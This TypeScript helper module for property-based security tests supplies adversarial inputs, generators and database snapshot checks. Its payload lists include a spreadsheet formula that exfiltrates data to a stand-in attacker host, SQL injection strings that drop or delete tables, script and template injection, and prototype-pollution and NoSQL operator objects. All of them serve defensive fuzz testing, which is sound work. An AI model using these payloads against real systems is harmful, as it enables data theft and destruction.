// Shared pieces of the property suites (docs/security.md): adversarial values, a bounded run count with a printed tally,
// and store snapshots that prove a refused input wrote nothing.
import fc from 'fast-check';
import type { Sql } from '../../server/store/db.ts';

// Cases per property. The suite must stay within ~90 s on two cores; PROPERTY_RUNS scales every property (e.g.
// PROPERTY_RUNS=5 for a long soak), PROPERTY_SEED replays a failing run that fast-check printed. Locally every
// run draws new cases; under CI (CI=true) the seed is fixed, so a landing run is reproducible — new ground is
// covered by local runs and soaks, and whatever they find becomes a fixed test.
const CI_SEED = 20_261_127;
const SCALE = Number(process.env.PROPERTY_RUNS ?? 1);
const SEED = process.env.PROPERTY_SEED ? Number(process.env.PROPERTY_SEED) : process.env.CI ? CI_SEED : undefined;

export function runs(base: number): number {
  return Math.max(1, Math.round(base * (Number.isFinite(SCALE) && SCALE > 0 ? SCALE : 1)));
}

/**
 * Runs an async property for `numRuns` generated cases and prints how many cases ran (generated ones, plus any
 * shrinking steps after a failure), so the figures in SECURITY.md can be checked against a run's output.
 */
export async function check<T>(name: string, arb: fc.Arbitrary<T>, numRuns: number, predicate: (value: T) => Promise<void>): Promise<number> {
  let cases = 0;
  const property = fc.asyncProperty(arb, async (value) => {
    cases++;
    await predicate(value);
  });
  try {
    await fc.assert(property, { numRuns, ...(SEED !== undefined ? { seed: SEED } : {}), endOnFailure: false });
  } finally {
    console.log(`property ${name}: ${cases} cases`);
  }
  return cases;
}

// ---- adversarial values ------------------------------------------------------------------------------------------

/** Text that has broken parsers, spreadsheets and databases: every one of these is still a legal string. */
export const NASTY_TEXT: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+2', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1',
  "x'); DROP TABLE sends; --", "' OR '1'='1", '"; DELETE FROM events; --', 'Robert\'); DROP TABLE incidents;--',
  '\u202Egnp.exe', '\u200F\u05E9\u05DC\u05D5\u05DD', 'مرحبا بالعالم', 'e\u0301\u0301\u0301\u0301', 'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '😀', '👩‍👩‍👧‍👦', '𝕳𝖊𝖑𝖑𝖔', '\uFEFFbom', '\u00A0nbsp', '\u2028line\u2029para',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty',
  '1e308', '-0', 'NaN', 'Infinity', '9007199254740993', '0x1F', '1,5',
  '"', '""', '","', 'a"b', ',', ';', '\\', '\\"', '%s%n', '${process.exit()}', '{{7*7}}', '<script>alert(1)</script>',
  'null', 'undefined', 'true', '[]', '{}', 'ǅ', 'İ', 'ß', 'ﬃ', '\u0085', '\u000B', '\u001F',
];

/** Lone surrogates: legal in a JS string and in escaped JSON, not representable in UTF-8. */
export const LONE_SURROGATES: readonly string[] = ['\uD800', '\uDBFF', '\uDC00', 'a\uDFFFb', '\uD83D'];

const NUL_TEXT: readonly string[] = ['\u0000', 'a\u0000b', '\u0000\u0000'];

/** Printable-ish text of any script (no control characters that the formats cannot carry unquoted). */
export const anyText = (maxLength = 24): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength }) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength }) },
    { weight: 3, arbitrary: fc.constantFrom(...NASTY_TEXT) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY_TEXT), fc.string({ unit: 'binary', maxLength: 8 })).map(([a, b]) => a + b) },
  );

/** Hostile text including NUL bytes and lone surrogates (for JSON bodies, which can carry them escaped). */
export const hostileText = (maxLength = 24): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: anyText(maxLength) },
    { weight: 1, arbitrary: fc.constantFrom(...NUL_TEXT) },
    { weight: 1, arbitrary: fc.constantFrom(...LONE_SURROGATES) },
  );

/** Numbers that are not counts: beyond 2^53, negative, fractional, NaN/Infinity (JSON writes null), huge. */
export const BAD_NUMBERS: readonly number[] = [-1, 1.5, 0.1, 1e308, -1e308, 2 ** 53 + 2, 2 ** 64, -Number.MIN_VALUE, Number.MAX_VALUE];

/** JSON values of every type, for fields that expect something else. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null), fc.boolean(), fc.constant([]), fc.constant({}), fc.constant({ __proto__: { admin: true } }),
  fc.constantFrom(...BAD_NUMBERS), fc.constant([1, 2, 3]), fc.constant({ $ne: null }), fc.constant('1; DROP TABLE sends'),
);

/** `[[[...]]]` nested `depth` levels, as JSON text (JSON.stringify of such a value would itself overflow the stack). */
export const deepArrayJson = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth);
export const deepObjectJson = (depth: number): string => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

/** Splits bytes into random chunks, so chunk boundaries fall inside quotes, UTF-8 sequences and lines. */
export const chunkPlan = fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 0, maxLength: 12 });

export function chunked(buf: Buffer, plan: readonly number[]): Buffer[] {
  const out: Buffer[] = [];
  let at = 0;
  for (const size of plan) {
    if (at >= buf.length) break;
    out.push(buf.subarray(at, at + size));
    at += size;
  }
  if (at < buf.length) out.push(buf.subarray(at));
  return out;
}

// ---- store snapshots -------------------------------------------------------------------------------------------------

/** Row count of every base table of the store (migrations included), by name. */
export async function tableCounts(db: Sql): Promise<Record<string, number>> {
  const tables = await db.all<{ name: string }>(
    `SELECT table_name AS name FROM duckdb_tables() WHERE database_name = current_database() AND schema_name = 'main' AND NOT temporary ORDER BY 1`,
  );
  const out: Record<string, number> = {};
  for (const { name } of tables) {
    // Names come from DuckDB's own catalogue, quoted as identifiers.
    const row = await db.one<{ n: number }>(`SELECT count(*) AS n FROM "${name.replace(/"/g, '""')}"`);
    out[name] = row?.n ?? 0;
  }
  return out;
}

/** The counts minus the tables a refused request is allowed to touch (the run log). */
export function withoutLogs(counts: Record<string, number>, logs: readonly string[] = ['ingest_runs']): Record<string, number> {
  return Object.fromEntries(Object.entries(counts).filter(([k]) => !logs.includes(k)));
}

/** What a UTF-8 file carries of a JS string: lone surrogates become U+FFFD on the way to bytes. */
export const viaUtf8 = (s: string): string => Buffer.from(s, 'utf8').toString('utf8');
